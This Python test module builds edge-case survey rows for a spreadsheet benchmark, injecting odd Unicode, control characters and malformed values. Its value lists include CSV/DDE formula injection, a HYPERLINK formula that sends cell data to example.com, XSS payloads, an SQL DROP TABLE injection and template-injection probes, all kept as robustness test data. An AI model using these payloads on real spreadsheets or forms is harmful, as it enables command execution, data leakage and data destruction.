"""The hard cases: what happens to a sheet that no reader should trip over.

Each takes the cells of a complete row and changes some of them in place.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable
from random import Random

from tests.bench import layout
from tests.bench.people import WORDS, one_of
from tests.bench.texts import NEW_LINE, sentence

Cells = list[str]
Oddity = Callable[[Cells, Random], None]

_FORMULAS = (
    "=1+1", "@SUM(A1:A9)", "+33 6 39 98 12 34 : joignable le soir", "-2+3+cmd",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/?x="&A1;"clic")', 
    "-1 pour la CNIL !", "\t=1+1", "+1", "- un tiret, puis un avis", "＝1+1",
)  # fmt: skip
_EMOJI = (
    "😡",
    "📹🚫",
    "🙅🏽\u200d♀️",
    "👁️👁️",
    "🏳️\u200d🌈",
    "🇫🇷",
    "👩\u200d👩\u200d👧",
    "🌻",
    "🤷",
    "𝒷ℴ𝒻",
)
_RIGHT_TO_LEFT = (
    "أرفض المراقبة الآلية بالفيديو في الأماكن العامة.", "אני מתנגד למעקב וידאו אוטומטי",
    "\u202eetnetaurep\u202c", "\u200fخوف\u200f", "Je refuse، comme ma mère؛ أمينة",
)  # fmt: skip
_INVISIBLE = ("\u200b", "\u200c", "\u2060", "\ufeff", "\u00ad", "\u200d", "\u180e")
_CONTROLS = ("\x0b", "\x0c", "\x07", "\x1b[31m", "\x01", "\x7f", "\x85", "\ufffe", "\x1f")
_SEPARATORS = (
    "a;b;c,d,e\tf\tg|h|i:j.k",
    "\tcolonne\tcollée\t12",
    'C:\\cameras\\" ; ";" , "\\t"',
    ";;;",
    "\t",
)
_QUOTED = (
    'Il a dit : "circulez", puis ""rien"".',
    "« C'est “légal”, dit-on »",
    '"',
    '"""',
    "l'été d'hier",
)
_MARKUP = (
    "[script]alert(1)[/script]", "<b>Non</b> &amp; non", "<img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE submissions;--", "{{ 7*7 }} ${HOME} %s", "_x000D_ &#10;", "<!-- rien -->",
)  # fmt: skip
_BLANKS = (" ", "   ", "\u00a0", NEW_LINE, f" {NEW_LINE} {NEW_LINE}", "\t", "\u3000", "\u2003 ")
_LINE_BREAKS = ("\u2028", "\u2029", "\x1c", "\n", "\r")
_TYPOGRAPHY = (
    "Texte de\u00a0Word\u202f: «\u00a0œuvre\u00a0» – ﬁ, №, ½, Ⅳ",
    "ｐｌｅｉｎｅ ｌａｒｇｅｕｒ",
    "Ǆ ẞ İı ſ",
    "Straße",
    "H₂O²",
)


def _text_column(rng: Random) -> int:
    return int(29 + 3 * rng.random())


def _beside(values: tuple[str, ...]) -> Oddity:
    """One of the values alone, before the text or after it."""

    def change(cells: Cells, rng: Random) -> None:
        column, value = _text_column(rng), one_of(values, rng)
        around = (value, f"{value} {cells[column]}", f"{cells[column]} {value}")
        cells[column] = around[int(3 * rng.random())]

    return change


def _within(values: tuple[str, ...]) -> Oddity:
    """One of the values somewhere in the text, twice."""

    def change(cells: Cells, rng: Random) -> None:
        column, value = _text_column(rng), one_of(values, rng)
        text = cells[column] or "Non"
        place = rng.randrange(1, len(text) + 1)
        cells[column] = f"{text[:place]}{value}{text[place:]}{value}"

    return change


def _instead(column: int, values: tuple[str, ...] | list[str]) -> Oddity:
    """One of the values in place of the cell."""

    def change(cells: Cells, rng: Random) -> None:
        cells[column] = one_of(values, rng)

    return change


def _formula(cells: Cells, rng: Random) -> None:
    """Formula-like answers stand alone; some in a one-line cell."""
    columns = (*layout.TEXTS, layout.NAME, layout.TOWN, layout.REASON_OTHER)
    cells[columns[int(len(columns) * rng.random())]] = one_of(_FORMULAS, rng)


def _blank(cells: Cells, rng: Random) -> None:
    cells[_text_column(rng)] = one_of(_BLANKS, rng)


def _decomposed(cells: Cells, _rng: Random) -> None:
    """A keyboard that writes accents as marks of their own, e-mail aside."""
    written = (layout.CATEGORY_OTHER, layout.NAME, layout.TOWN, layout.REASON_OTHER, *layout.TEXTS)
    for column in written:
        cells[column] = unicodedata.normalize("NFD", cells[column])
    cells[29] += unicodedata.normalize("NFD", " Dégoûtée à l'idée d'être filmée.")


def _unknown_opinion(cells: Cells, rng: Random) -> None:
    column = rng.randrange(layout.GRID.start, layout.GRID.stop)
    cells[column] = one_of(WORDS["unknown_opinion"], rng)


def _question_quoted(cells: Cells, rng: Random) -> None:
    column = _text_column(rng)
    title, said = layout.TEXT_TITLES[column], cells[column]
    forms = (
        f"{title}{NEW_LINE}{said}",
        f"« {title} » : {said}",
        f"Question : {title} Réponse : {said}",
    )
    cells[column] = forms[int(3 * rng.random())]


def _phone_given(cells: Cells, rng: Random) -> None:
    """A number of those kept for fiction, or an address, left in a text."""
    tail = f"{int(100 * rng.random()):02} {int(100 * rng.random()):02}"
    written = (
        f"06 39 98 {tail}",
        f"+33 6 39 98 {tail}",
        "ecrire a contact＠example.org",
        "http://example.org/a?b=c",
    )
    cells[_text_column(rng)] += f" {one_of(written, rng)}"


def _combining(cells: Cells, rng: Random) -> None:
    column = _text_column(rng)
    cells[column] = re.sub(r"([aeiou])", "\\1\u0336\u0301", cells[column][:80] or "non")


def _near_ending(cells: Cells, rng: Random) -> None:
    """The same answer to two questions."""
    cells[31] = cells[30] = cells[29] or sentence("feelings", rng, "ma ville")


# How often, of all rows, in the order of a draw.
ODDITIES: tuple[tuple[float, str, Oddity], ...] = (
    (0.015, "question quoted in the answer", _question_quoted),
    (0.010, "quotes", _within(_QUOTED)),
    (0.006, "formula-like text", _formula),
    (0.015, "emoji", _beside(_EMOJI)),
    (0.008, "combining accents (NFD)", _decomposed),
    (0.001, "stacked combining marks", _combining),
    (0.003, "right-to-left", _beside(_RIGHT_TO_LEFT)),
    (0.005, "zero-width characters", _within(_INVISIBLE)),
    (0.003, "control characters", _within(_CONTROLS)),
    (0.002, "bare or Unicode line breaks", _within(_LINE_BREAKS)),
    (0.006, "tabs and delimiters in a text", _beside(_SEPARATORS)),
    (0.003, "markup or code", _beside(_MARKUP)),
    (0.004, "only white space", _blank),
    (0.003, "rare typography", _beside(_TYPOGRAPHY)),
    (0.006, "phone or address in a text", _phone_given),
    (0.004, "same answer to several questions", _near_ending),
    (0.002, "unknown category", _instead(layout.CATEGORY, WORDS["unknown_category"])),
    (0.004, "unknown opinion in the grid", _unknown_opinion),
    (0.001, "unknown consent", _instead(layout.CONSENT, WORDS["unknown_consent"])),
    (0.006, "unreadable number", _instead(layout.NUMBER, WORDS["bad_number"])),
    (0.003, "unreadable date", _instead(layout.DATE, WORDS["bad_date"])),
    (0.002, "unreadable time", _instead(layout.TIME, WORDS["bad_time"])),
    (0.006, "bad e-mail", _instead(layout.EMAIL, WORDS["bad_email"])),
    (0.010, "bad postcode", _instead(layout.POSTCODE, WORDS["bad_postcode"])),
)
